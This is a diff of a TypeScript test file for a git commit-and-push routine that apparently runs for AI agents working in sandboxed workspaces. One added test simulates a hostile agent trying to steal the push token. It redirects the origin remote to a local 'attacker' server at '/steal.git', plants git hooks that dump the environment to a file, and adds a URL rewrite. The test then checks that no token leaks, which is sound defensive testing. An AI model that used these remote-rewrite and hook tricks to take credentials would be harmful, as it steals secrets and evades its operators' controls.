@@ -1,6 +1,8 @@
 import { mkdir, mkdtemp, readdir, readFile, rm, stat, unlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { createServer } from 'node:http';
+import { connect, createServer as createNetServer, type AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { memoryLogger } from '../../src/shared/log';
 import { parseHiring, type Hiring } from '../../src/shared/hiring';
@@ -307,17 +309,76 @@ describe('commitAndPush', () => {
   });
 
   it('reports an unreachable repository as a push failure, and pushes once it is back', async () => {
-    const h = hiring('h-offline', writeToken);
-    const ws = await prepareWorkspace(h, { root, log });
-    await writeFile(join(ws.dir, 'offline.txt'), 'offline\n');
-    // Point origin at a port where nothing listens: the network is gone.
-    await gitCli(['remote', 'set-url', 'origin', 'http://127.0.0.1:9/git/acme/app.git'], ws.dir);
-    const err = await caught(commitAndPush(ws, h, { message: 'Offline', log }));
-    expect((err as PushError).step).toBe('push');
-    expect(err.message).toMatch(/^Pushing agrenting\/h-offline for hiring h-offline failed: the repository could not be reached\./);
-    await gitCli(['remote', 'set-url', 'origin', repoUrl], ws.dir);
-    const result = await commitAndPush(ws, h, { message: 'Offline', log });
-    expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-offline')).toBe(result.commit);
+    // The repository is reached through a TCP relay we can cut, as a network outage would.
+    let up = true;
+    const target = Number(new URL(hosted.base).port);
+    const proxy = createNetServer((client) => {
+      if (!up) return client.destroy();
+      const server = connect(target, '127.0.0.1');
+      client.pipe(server).pipe(client);
+      const close = () => {
+        client.destroy();
+        server.destroy();
+      };
+      client.on('error', close);
+      server.on('error', close);
+    });
+    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
+    try {
+      const viaProxy = repoUrl.replace(/:\d+\//, `:${(proxy.address() as AddressInfo).port}/`);
+      const h = hiring('h-offline', writeToken, viaProxy);
+      const ws = await prepareWorkspace(h, { root, log });
+      await writeFile(join(ws.dir, 'offline.txt'), 'offline\n');
+      up = false;
+      const err = await caught(commitAndPush(ws, h, { message: 'Offline', log }));
+      expect((err as PushError).step).toBe('push');
+      expect(err.message).toMatch(/^Pushing agrenting\/h-offline for hiring h-offline failed: the repository could not be reached\./);
+      up = true;
+      const result = await commitAndPush(ws, h, { message: 'Offline', log });
+      expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-offline')).toBe(result.commit);
+    } finally {
+      await new Promise<void>((r) => proxy.close(() => r()));
+    }
+  });
+
+  it('keeps the token from a workspace the agent tampered with: other remotes, URL rewrites, hooks', async () => {
+    const seen: (string | undefined)[] = [];
+    const attacker = createServer((req, res) => {
+      seen.push(req.headers.authorization);
+      res.writeHead(404).end();
+    });
+    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
+    const evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    try {
+      const h = hiring('h-tampered', writeToken);
+      const ws = await prepareWorkspace(h, { root, log });
+      await writeFile(join(ws.dir, 'work.txt'), 'work\n');
+      // What a hostile agent could do inside its workspace:
+      const dump = join(scratch, 'hook-env.txt');
+      await gitCli(['remote', 'set-url', 'origin', `${evil}/steal.git`], ws.dir);
+      await gitCli(['remote', 'set-url', '--push', 'origin', `${evil}/steal.git`], ws.dir);
+      for (const hook of ['pre-push', 'reference-transaction', 'post-commit']) {
+        await writeFile(join(ws.dir, '.git', 'hooks', hook), `#!/bin/sh\nenv >> '${dump}'\n`, { mode: 0o755 });
+      }
+      const result = await commitAndPush(ws, h, { message: 'Work', log });
+      expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-tampered')).toBe(result.commit);
+      expect(seen).toEqual([]);
+      // post-commit ran (the commit carries no token); the hooks around the push did not.
+      const dumped = await readFile(dump, 'utf8').catch(() => '');
+      expect(dumped).toMatch(/GIT_AUTHOR_NAME=Agrenting Relay/);
+      expect(dumped).not.toContain(writeToken);
+      expect(dumped).not.toContain(Buffer.from(`x-access-token:${writeToken}`).toString('base64'));
+
+      // A URL rewrite sends the push elsewhere, but never with the header.
+      await gitCli(['config', `url.${evil}/.insteadOf`, `${new URL(repoUrl).origin}/`], ws.dir);
+      await writeFile(join(ws.dir, 'more.txt'), 'more\n');
+      await caught(commitAndPush(ws, h, { message: 'More', log }));
+      expect(seen.length).toBeGreaterThan(0);
+      expect(seen.every((a) => a === undefined)).toBe(true);
+    } finally {
+      attacker.closeAllConnections();
+      await new Promise<void>((r) => attacker.close(() => r()));
+    }
   });
 
   it('fails clearly when there is nothing to push', async () => {
